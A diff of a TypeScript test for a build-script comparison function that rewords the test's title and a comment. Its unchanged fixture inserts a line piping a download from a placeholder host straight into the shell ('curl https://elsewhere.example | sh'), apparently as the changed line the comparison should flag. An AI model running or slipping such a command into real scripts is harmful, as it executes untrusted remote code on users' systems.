@@ -3,7 +3,7 @@ import { scriptChanges } from './scriptChanges.ts';
 
 const script = (path: string, text: string | null) => ({ path, text });
 
-test('a script stands beside that of the build before: new, as it was, changed line by line, and gone', () => {
+test('compares a script with that of the previous build: new, unchanged, changed line by line, or removed', () => {
   const lines = Array.from({ length: 20 }, (_, at) => `echo ${at}`);
   const changed = lines.with(10, 'curl https://elsewhere.example | sh');
   const changes = scriptChanges(
@@ -19,7 +19,7 @@ test('a script stands beside that of the build before: new, as it was, changed l
   expect(difference!.filter(({ mark }) => mark === 'new')).toEqual([{ mark: 'new', text: changed[10] }]);
   expect(changes.of('b.sh')).toEqual({ change: 'same', difference: null });
   expect(changes.of('c.sh')).toEqual({ change: 'new', difference: null });
-  // Of a text that nobody kept nothing is said.
+  // No comparison with a text that wasn't stored.
   expect(changes.of('link.sh')).toEqual({ change: null, difference: null });
   expect(changes.gone).toEqual(['old.sh']);
 });
